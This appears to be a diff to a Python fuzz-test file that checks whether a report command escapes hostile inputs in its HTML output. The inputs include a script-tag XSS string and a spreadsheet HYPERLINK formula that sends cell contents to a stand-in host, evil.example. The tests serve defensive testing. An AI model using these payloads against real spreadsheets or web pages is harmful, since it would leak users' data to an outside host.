@@ -40,7 +40,7 @@ FUZZ = settings(max_examples=300 if LONG else 5, deadline=None, derandomize=not 
 
 SCRIPT = "<script>alert(1)</script>"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
-HOSTILE = [None, float("nan"), float("inf"), -float("inf"), 1e308, 10 ** 400, -1, 0, True, "",
+HOSTILE = [None, float("nan"), float("inf"), -float("inf"), 1e308, 10 ** 400, 10 ** 16, -1, 0, True, "",
            SCRIPT, FORMULA, "<b>x</b>&amp;", [], {}, [SCRIPT], {"x": SCRIPT}, "2024-13-45", "NaN"]
 INJECTED = ("<script", "<b>x</b>", "=HYPERLINK(")
 PYTHON_TEXT = re.compile(r"Traceback|Error:|Exception|KeyError|TypeError|IndexError|ValueError|AttributeError"
@@ -142,6 +142,7 @@ def _dump(doc) -> str:
 
 def check_report(target: Path, out: Path, refs: set[str], injected=INJECTED) -> int:
     """Run ``report``; assert the contract; return the exit code."""
+    out.unlink(missing_ok=True)  # Hypothesis examples share tmp_path
     code, stdout, stderr = _run(["report", target, "-o", out, "-q"])
     assert code in (0, 2), f"exit {code}: {stderr}"
     if code == 2:
@@ -155,8 +156,7 @@ def check_report(target: Path, out: Path, refs: set[str], injected=INJECTED) -> 
         assert not out.exists(), "a failed report left its output"
     else:
         html = out.read_text(encoding="utf-8")
-        assert "<script" not in html.lower() and "=HYPERLINK(" not in html.replace("&quot;", '"') or \
-            "=HYPERLINK(" not in html, "unescaped injected text"
+        assert FORMULA not in html, "unescaped injected text"  # escaped, its quotes are &quot;
         assert "<script" not in html.lower()
         assert "<b>x</b>" not in html
         body = re.sub(r"<style>.*?</style>", "", html, flags=re.S)
